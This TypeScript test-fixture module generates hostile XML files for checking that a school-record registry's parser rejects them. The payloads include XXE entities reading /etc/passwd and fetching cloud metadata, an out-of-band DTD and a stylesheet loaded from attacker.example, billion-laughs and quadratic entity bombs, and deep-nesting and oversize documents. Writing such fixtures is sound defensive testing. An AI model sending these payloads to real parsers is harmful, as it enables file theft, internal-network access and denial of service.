// Attacks on the XML parser: DOCTYPE and XXE (file, http, parameter entities), entity bombs, processing
// instructions, deep nesting, node floods, huge attributes, oversize documents (api/xml: no DTD, caps).
import { encodePackage } from '../../../api/index.ts';
import { replaceOnce } from './text.ts';
import type { Recipe } from './types.ts';

const category = 'xml-parser' as const;
const ROOT = '<HocBaSo xmlns="urn:hocba:hoc-ba-so:1" PhienBan="1.0">';
const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n';

/** Letters from a fixed-seed generator: text that compresses poorly. */
function noise(length: number): string {
  let state = 0x9e3779b9;
  let out = '';
  for (let i = 0; i < length; i++) {
    state = (state * 1103515245 + 12345) >>> 0;
    out += String.fromCharCode(0x41 + ((state >>> 16) % 26));
  }
  return out;
}

/** A signed record with a DOCTYPE placed after its XML declaration. */
function withDoctype(doctype: string, seed: number) {
  return async (kit: Parameters<Recipe['build']>[0]) => replaceOnce(await kit.sealed(seed), /\?>\n/, `?>\n${doctype}\n`);
}

export const PARSER: Recipe[] = [
  {
    file: 'xml/doctype-xxe-file.xml', category, expected: 'xml_doctype', verdict: 'invalid', ingest: true,
    technique: 'XXE: an external entity reading file:///etc/passwd into a signed value',
    async build(kit) {
      const xml = await withDoctype('<!DOCTYPE HocBaSo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 201)(kit);
      return xml.replace(/<NoiSinh>[^<]*</, '<NoiSinh>&xxe;<');
    },
  },
  {
    file: 'xml/doctype-xxe-http.xml', category, expected: 'xml_doctype', verdict: 'invalid', ingest: true,
    technique: 'XXE/SSRF: an external entity fetched over http from inside the registry network',
    async build(kit) {
      const xml = await withDoctype('<!DOCTYPE HocBaSo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>', 202)(kit);
      return xml.replace(/<NoiSinh>[^<]*</, '<NoiSinh>&xxe;<');
    },
  },
  {
    file: 'xml/doctype-parameter-entity.xml', category, expected: 'xml_doctype', verdict: 'invalid',
    technique: 'Out-of-band XXE through an external parameter entity (no entity reference in the body at all)',
    build: withDoctype('<!DOCTYPE HocBaSo [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>', 203),
  },
  {
    file: 'xml/doctype-external-subset.xml', category, expected: 'xml_doctype', verdict: 'invalid',
    technique: 'An external DTD subset (SYSTEM identifier on the DOCTYPE itself)',
    build: withDoctype('<!DOCTYPE HocBaSo SYSTEM "file:///dev/random">', 204),
  },
  {
    file: 'xml/entity-bomb-billion-laughs.xml', category, expected: 'xml_doctype', verdict: 'invalid', ingest: true,
    technique: 'Internal entity bomb (billion laughs): ten levels of ten references, 10^10 expansions',
    build: () => `${DECLARATION}<!DOCTYPE HocBaSo [<!ENTITY l0 "ha">${Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>\n${ROOT}<DuLieu Id="x">&l10;</DuLieu></HocBaSo>\n`,
  },
  {
    file: 'xml/entity-bomb-quadratic.xml', category, expected: 'xml_doctype', verdict: 'invalid',
    technique: 'Quadratic blow-up: one 20 KB internal entity referenced 2,000 times (no nesting for a depth limit to catch)',
    build: () => `${DECLARATION}<!DOCTYPE HocBaSo [<!ENTITY a "${'a'.repeat(20_000)}">]>\n${ROOT}<DuLieu Id="x">${'&a;'.repeat(2000)}</DuLieu></HocBaSo>\n`,
  },
  {
    file: 'xml/doctype-lower-case.xml', category, expected: 'xml_doctype', verdict: 'invalid',
    technique: 'A DOCTYPE written in lower case, for filters that match only upper case',
    build: withDoctype('<!doctype HocBaSo [<!entity x "y">]>', 205),
  },
  {
    file: 'xml/doctype-in-package.b64', category, expected: 'xml_doctype', verdict: 'invalid', ingest: true,
    technique: 'A signed record with an (unused) internal DTD, pushed as a package',
    build: async (kit) => encodePackage(await withDoctype('<!DOCTYPE HocBaSo [<!ENTITY unused "x">]>', 206)(kit)),
  },
  {
    file: 'xml/undeclared-entity.xml', category, expected: 'xml_malformed', verdict: 'invalid',
    technique: 'A reference to an undeclared entity (&nbsp;) that lenient parsers skip with a warning',
    async build(kit) {
      return replaceOnce(await kit.sealed(207), /<NoiSinh>/, '<NoiSinh>&nbsp;');
    },
  },
  {
    file: 'xml/processing-instruction.xml', category, expected: 'xml_processing_instruction', verdict: 'invalid', ingest: true,
    technique: 'An xml-stylesheet processing instruction after the root (only one before the root is ignored, SPEC §7; anywhere else a browser or XSLT engine would fetch and run it)',
    async build(kit) {
      return replaceOnce(await kit.sealed(208), /<\/HocBaSo>\s*$/, '</HocBaSo>\n<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n');
    },
  },
  {
    file: 'xml/stylesheet-before-root.xml', category, expected: null, verdict: 'valid', ingest: true,
    technique: 'An xml-stylesheet processing instruction before the root, as a Vietnamese e-invoice vendor writes it: ignored (no node, outside what is signed), the record accepted',
    async build(kit) {
      return replaceOnce(await kit.sealed(209), /\?>\n/, '?>\n<?xml-stylesheet type="text/xsl" href="hoc-ba.xsl"?>\n');
    },
  },
  {
    file: 'xml/deep-nesting.xml', category, expected: 'xml_too_deep', verdict: 'invalid', ingest: true,
    technique: 'Elements nested 5,000 deep inside DuLieu (stack exhaustion in recursive readers)',
    build: () => `${DECLARATION}${ROOT}<DuLieu Id="x">${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}</DuLieu></HocBaSo>\n`,
  },
  {
    file: 'generated/deep-nesting-280k.xml', category, expected: 'xml_too_deep', verdict: 'invalid', generated: true,
    technique: 'Elements nested 280,000 deep, just under the 2 MB size cap (stack exhaustion in the parser itself)',
    build: () => `${ROOT}${'<a>'.repeat(280_000)}${'</a>'.repeat(280_000)}</HocBaSo>`,
  },
  {
    file: 'generated/many-nodes.xml', category, expected: 'xml_too_many_nodes', verdict: 'invalid', generated: true,
    technique: '200,000 empty sibling elements (memory and CPU of everything that walks the tree)',
    build: () => `${DECLARATION}${ROOT}<DuLieu Id="x">${'<a/>'.repeat(200_000)}</DuLieu></HocBaSo>\n`,
  },
  {
    file: 'xml/huge-attribute.xml', category, expected: 'xml_attribute_too_large', verdict: 'invalid', ingest: true,
    technique: 'A 64 KB attribute value on DuLieu (noisy letters that compress about 12:1, so a package carrying it passes the ratio cap and reaches the parser)',
    build: () => `${DECLARATION}${ROOT}<DuLieu Id="x" Note="${noise(64 * 1024)}"/></HocBaSo>\n`,
  },
  {
    file: 'generated/huge-attribute-1m.xml', category, expected: 'xml_attribute_too_large', verdict: 'invalid', generated: true,
    technique: 'A 1 MB attribute value (under the document cap, over the attribute cap)',
    build: () => `${DECLARATION}${ROOT}<DuLieu Id="x" Note="${'A'.repeat(1024 * 1024)}"/></HocBaSo>\n`,
  },
  {
    file: 'generated/xml-over-size-cap.xml', category, expected: 'xml_too_large', verdict: 'invalid', generated: true,
    technique: 'A bare XML document of 2 MB + 1 byte (uploads to the portal and API skip the package caps)',
    build: () => {
      const head = `${DECLARATION}${ROOT}<DuLieu Id="x">`;
      const tail = '</DuLieu></HocBaSo>\n';
      return `${head}${' '.repeat(2 * 1024 * 1024 + 1 - head.length - tail.length)}${tail}`;
    },
  },
  {
    file: 'xml/undeclared-namespace-prefix.xml', category, expected: 'xml_malformed', verdict: 'invalid',
    technique: 'An element with an undeclared namespace prefix',
    async build(kit) {
      return replaceOnce(await kit.sealed(209), '<DSCKS>', '<x:Evil/><DSCKS>');
    },
  },
  {
    file: 'xml/truncated-document.xml', category, expected: 'xml_malformed', verdict: 'invalid', ingest: true,
    technique: 'A signed record cut in the middle',
    async build(kit) {
      const xml = await kit.sealed(210);
      return xml.slice(0, Math.floor(xml.length / 2));
    },
  },
];
